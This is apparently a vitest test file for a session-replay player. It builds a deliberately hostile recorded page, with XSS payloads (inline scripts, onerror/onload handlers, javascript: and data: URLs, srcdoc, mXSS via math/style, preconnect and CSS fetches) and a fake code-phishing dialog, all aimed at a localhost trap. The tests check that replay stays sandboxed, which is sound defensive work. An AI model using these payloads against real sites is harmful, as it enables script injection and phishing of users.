import { readdirSync, readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { type AddressInfo, createServer as listenRaw, type Server as RawServer } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { Chromium, type Page } from "./chromium";
import { Site } from "./site";

let site: Site;
let chromium: Chromium;
let page: Page;
let trap: Server;
let away: string;
/** Hears a connection that asks for nothing, as `preconnect` makes it. */
let raw: RawServer;
let rawAway: string;
const hits: string[] = [];

beforeAll(async () => {
  trap = createServer((request, response) => {
    hits.push(`${request.method} ${request.headers.host}${request.url}`);
    response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" }).end("top.ran = 'fetched'");
  });
  await new Promise<void>((done) => trap.listen(0, "127.0.0.1", done));
  const port = (trap.address() as AddressInfo).port;
  away = `http://127.0.0.1:${port}`;
  raw = listenRaw((socket) => {
    hits.push("connection");
    socket.on("error", () => {}).destroy();
  });
  await new Promise<void>((done) => raw.listen(0, "127.0.0.1", done));
  rawAway = `http://127.0.0.1:${(raw.address() as AddressInfo).port}`;
  site = await Site.start();
  chromium = await Chromium.start("--disable-popup-blocking", "--autoplay-policy=no-user-gesture-required");
  page = await chromium.page();
}, 60_000);

afterAll(async () => {
  await chromium?.stop();
  site?.stop();
  trap?.close();
  trap?.closeAllConnections();
  raw?.close();
});

beforeEach(() => {
  hits.length = 0;
});

let ids = 0;
type Node = Record<string, unknown>;
const element = (tagName: string, attributes: Record<string, string> = {}, childNodes: Node[] = [], more: Node = {}): Node => ({
  type: 2,
  id: ++ids,
  tagName,
  attributes,
  childNodes,
  ...more,
});
const text = (textContent: string): Node => ({ type: 3, id: ++ids, textContent });

/** What a page of an Organization could have reported about itself, or anybody in its name. */
function hostile(): Node[] {
  const run = `top.ran='ran';parent.postMessage('ran','*');fetch('${away}/fetched');new Image().src='${away}/image'`;
  const script = `data:text/html,<script>${run}</script>`;
  const at = (name: string) => `${away}/${name}`;
  return [
    element("script", {}, [text(run)]),
    element("script", { src: at("script.js") }),
    element("img", { src: at("img"), onerror: run, onload: run }),
    element("img", { src: "x:", srcset: `${at("srcset")} 1x`, onerror: run }),
    element("picture", {}, [element("source", { srcset: at("source") }), element("img", { src: at("picture") })]),
    element(
      "svg",
      { onload: run },
      [
        element("use", { href: at("use.svg#x") }, [], { isSVG: true }),
        element("image", { href: at("svgimage") }, [], { isSVG: true }),
        element("script", {}, [text(run)], { isSVG: true }),
        element("a", { "xlink:href": `javascript:${run}` }, [text("press")], { isSVG: true }),
      ],
      { isSVG: true },
    ),
    element("math", {}, [
      element("mtext", {}, [
        element("mglyph", { src: at("mglyph") }),
        element("style", {}, [text(`<img src=${at("mxss")} onerror="${run}">`)]),
      ]),
    ]),
    element("video", { src: at("video"), poster: at("poster"), autoplay: "", onloadstart: run }),
    element("audio", { src: at("audio"), autoplay: "" }),
    element("iframe", { src: at("iframe"), onload: run }),
    element("iframe", { src: `javascript:${run}` }),
    element("iframe", { src: script }),
    element("iframe", { srcdoc: `<script>${run}</script><img src="${at("srcdoc")}">` }),
    element("object", { data: at("object"), type: "text/html" }),
    element("object", { data: script }),
    element("embed", { src: at("embed") }),
    element("applet", { code: at("applet") }),
    element("form", { action: at("form"), method: "post", id: "f" }, [
      element("button", { formaction: `javascript:${run}`, autofocus: "", onfocus: run }, [text("Countersign")]),
    ]),
    element("a", { href: `javascript:${run}`, ping: at("ping") }, [text("go")]),
    element("link", { rel: "stylesheet", href: at("style.css") }),
    element("link", { rel: "icon", href: at("icon") }),
    element("link", { rel: "manifest", href: at("manifest") }),
    ...["preload", "prefetch", "prerender", "dns-prefetch", "preconnect", "modulepreload"].map((rel) =>
      element("link", { rel, href: at(rel), as: "script" }),
    ),
    element("LINK", { REL: "PreConnect", HREF: rawAway }),
    ...["preconnect", "dns-prefetch preconnect", "stylesheet preconnect"].map((rel) => element("link", { rel, href: `${rawAway}/${rel}` })),
    element("iframe", { srcdoc: `<link rel=preconnect href="${rawAway}/srcdoc">` }),
    element("style", {}, [
      text(
        `@import url("${at("import.css")}"); @font-face { font-family: x; src: url("${at("font")}") } body { background: url("${at("background")}"); font-family: x; cursor: url("${at("cursor")}"), auto }`,
      ),
    ]),
    element("div", { style: `background-image: url("${at("inline")}")` }, [text("x")]),
    element("details", { open: "", ontoggle: run }, [text("x")]),
    element("body", { onload: run }),
    element("template", { shadowrootmode: "open" }, [element("img", { src: at("template"), onerror: run })]),
    element("div", {}, [element("img", { src: at("shadow"), onerror: run }, [], { isShadow: true })], { isShadowHost: true }),
    element("dialog", { open: "" }, [text("Countersign needs your code. 419 877")]),
    element("input", { autofocus: "", onfocus: run, placeholder: "Your 6-digit code" }),
  ];
}

function recording(): Node[] {
  const head = element("head", {}, [
    element("base", { href: `${away}/`, target: "_top" }),
    element("meta", { "http-equiv": "refresh", content: `0;url=${away}/refresh` }),
    element("meta", { "http-equiv": "Content-Security-Policy", content: "default-src *" }),
  ]);
  const bodyId = ++ids;
  const body = { type: 2, id: bodyId, tagName: "body", attributes: { onload: "top.ran='ran'" }, childNodes: hostile() };
  const document = {
    type: 0,
    id: ++ids,
    childNodes: [{ type: 1, id: ++ids, name: "html", publicId: "", systemId: "" }, element("html", {}, [head, body])],
  };
  const later = hostile().map((node) => ({ parentId: bodyId, nextId: null, node }));
  const turned = element("link", {});
  later.push({ parentId: bodyId, nextId: null, node: turned });
  return [
    { type: 4, timestamp: 1000, data: { href: `${away}/page`, width: 900, height: 500 } },
    { type: 2, timestamp: 1001, data: { node: document, initialOffset: { top: 0, left: 0 } } },
    {
      type: 3,
      timestamp: 1200,
      data: {
        source: 0,
        texts: [],
        attributes: [{ id: bodyId, attributes: { onclick: "top.ran='ran'", background: `${away}/attribute` } }],
        removes: [],
        adds: later,
      },
    },
    {
      type: 3,
      timestamp: 1250,
      data: {
        source: 0,
        texts: [],
        attributes: [{ id: turned.id, attributes: { rel: "preconnect", href: `${rawAway}/turned` } }],
        removes: [],
        adds: [],
      },
    },
    { type: 3, timestamp: 1300, data: { source: 8, id: 1, adds: [{ rule: `@import url("${away}/rule.css")` }] } },
    { type: 3, timestamp: 1400, data: { source: 9, id: 1, type: 0, commands: [{ property: "drawImage", args: [`${away}/canvas`] }] } },
    { type: 3, timestamp: 1500, data: { source: 7, type: 0, id: 1 } },
    { type: 3, timestamp: 1600, data: { source: 2, type: 2, id: bodyId, x: 10, y: 10 } },
    { type: 3, timestamp: 3000, data: { source: 3, id: 1, x: 0, y: 0 } },
  ];
}

/** The player under the app's page, as Replay has it, with the worst recording. */
async function replay() {
  await page.size(1280, 800);
  await page.open(`${site.app}/?story=replay&player=${encodeURIComponent(`${site.player}/player.html`)}`);
  await page.until("document.querySelector('[data-testid=stage]')?.dataset.phase === 'loaded'", "the player is there");
  await page.run(`new Promise((done, failed) => {
    const frame = document.querySelector("[data-testid=stage]");
    window.heard = [];
    window.addEventListener("message", (message) => {
      window.heard.push(message.data);
      if (message.data?.say === "loaded") done();
      if (message.data?.say === "failed") failed(new Error("the recording was not rebuilt"));
    });
    frame.contentWindow.postMessage({ say: "load", events: ${JSON.stringify(recording())} }, "*");
  })`);
  for (const atMs of [1100, 1650, 2900]) {
    await page.run(
      `document.querySelector("[data-testid=stage]").contentWindow.postMessage({ say: "show", atMs: ${atMs}, playing: ${atMs === 1650}, speed: 1 }, "*"), new Promise((done) => setTimeout(done, 400))`,
    );
  }
}

test("v_01 v_03 a recorded page runs nothing and asks for nothing, whatever it holds", async () => {
  const before = await page.run<string>("location.href");
  await replay();
  expect(hits).toEqual([]);
  expect(await page.run("window.ran")).toBeUndefined();
  expect(await page.run<unknown[]>("window.heard.filter((one) => typeof one !== 'object')")).toEqual([]);
  expect(await page.run<string>("location.pathname")).toBe("/");
  expect(before).not.toBe("");
  expect(await page.run<number>("document.querySelectorAll('iframe').length")).toBe(1);
});

test("the raw trap hears a preconnect that no policy holds back", async () => {
  await page.open(`${site.player}/player.html`);
  await page.run(
    `document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: "${rawAway}" })), new Promise((done) => setTimeout(done, 400))`,
  );
  expect(hits).toContain("connection");
});

test("the trap hears what a page without these walls would ask for", async () => {
  await page.send("Page.setBypassCSP", { enabled: true });
  await page.open(`${site.app}/bar.html`);
  await page.run(
    `new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = "${away}/control"; })`,
  );
  await page.send("Page.setBypassCSP", { enabled: false });
  expect(hits.join()).toContain("/control");
});

test("v_06 what a recorded page draws stays inside its frame and gets no press and no key", async () => {
  await replay();
  const [stage, covered] = await page.run<[DOMRect, string[]]>(`(() => {
    const box = document.querySelector("[data-testid=stage]").getBoundingClientRect();
    const ours = [...document.querySelectorAll(".rp button, .head, nav, footer")].filter((one) => {
      const edge = one.getBoundingClientRect();
      const at = document.elementFromPoint(edge.left + edge.width / 2, edge.top + edge.height / 2);
      return at?.tagName === "IFRAME";
    });
    return [box.toJSON(), ours.map((one) => one.textContent)];
  })()`);
  expect(covered).toEqual([]);
  expect(await page.run("document.querySelector('[data-testid=stage]').getAttribute('sandbox')")).toBe("allow-scripts allow-same-origin");
  expect(await page.run("document.querySelector('[data-testid=stage]').getAttribute('allow')")).toBeNull();
  expect(await page.run("document.querySelector('[data-testid=stage]').allowFullscreen")).toBe(false);
  const inner = await insidePlayer<{ sandbox: string; pointer: string; outside: number }>(`(() => {
    const frames = [...document.querySelectorAll("iframe")];
    return { sandbox: frames.map((one) => one.getAttribute("sandbox")).join("|"), pointer: getComputedStyle(frames[0]).pointerEvents, outside: frames.length };
  })()`);
  expect(inner).toEqual({ sandbox: "allow-same-origin", pointer: "none", outside: 1 });
  await page.run("window.heard.length = 0");
  for (const type of ["mousePressed", "mouseReleased"])
    await page.send("Input.dispatchMouseEvent", {
      type,
      x: stage.x + stage.width / 2,
      y: stage.y + stage.height / 2,
      button: "left",
      clickCount: 1,
    });
  await page.send("Input.insertText", { text: "419877" });
  const typed = await insidePlayer<string[]>(
    "[...document.querySelectorAll('iframe')[0].contentDocument.querySelectorAll('input')].map((one) => one.value)",
  );
  expect(typed.join("")).toBe("");
  expect(hits).toEqual([]);
  expect(await page.run("window.ran")).toBeUndefined();
});

test("v_07 the option that lets recorded pages run scripts is not in any build", () => {
  const assets = join(site.folder, "assets");
  const scripts = readdirSync(assets).filter((name) => name.endsWith(".js"));
  const player = scripts.filter((name) => name.startsWith("player"));
  expect(player.length).toBeGreaterThan(0);
  for (const name of scripts) {
    const code = readFileSync(join(assets, name), "utf8");
    // The app's own page gives the player's frame that much; nothing in the player gives it to a recorded page.
    const given = code.replaceAll("allow-scripts allow-same-origin", () => (player.includes(name) ? "allow-scripts" : ""));
    expect(given, name).not.toContain("allow-scripts");
    expect(code, name).not.toContain("config.UNSAFE_replayCanvas");
  }
});

/** Evaluates in the player's own page, which is another origin than the app's. */
async function insidePlayer<T>(expression: string): Promise<T> {
  const contexts: { id: number; origin: string; auxData?: { isDefault?: boolean } }[] = [];
  const deaf = chromium.hear(({ sessionId, method, params }) => {
    if (sessionId === page.session && method === "Runtime.executionContextCreated")
      contexts.push(params?.context as (typeof contexts)[number]);
  });
  await page.send("Runtime.disable");
  await page.send("Runtime.enable");
  deaf();
  type Answer<A> = { result: { value: A }; exceptionDetails?: unknown };
  const evaluate = async <A>(contextId: number, what: string) =>
    (await page.send("Runtime.evaluate", { expression: what, contextId, returnByValue: true })) as Answer<A>;
  for (const context of contexts.filter((one) => one.origin === site.player && one.auxData?.isDefault)) {
    // The rebuilt page has the player's origin and even its address.
    const { result } = await evaluate<boolean>(context.id, "document.querySelector('#page > .replayer-wrapper') !== null");
    if (!result.value) continue;
    const answer = await evaluate<T>(context.id, expression);
    if (answer.exceptionDetails) throw new Error(JSON.stringify(answer.exceptionDetails).slice(0, 600));
    return answer.result.value;
  }
  throw new Error("the player is not there");
}
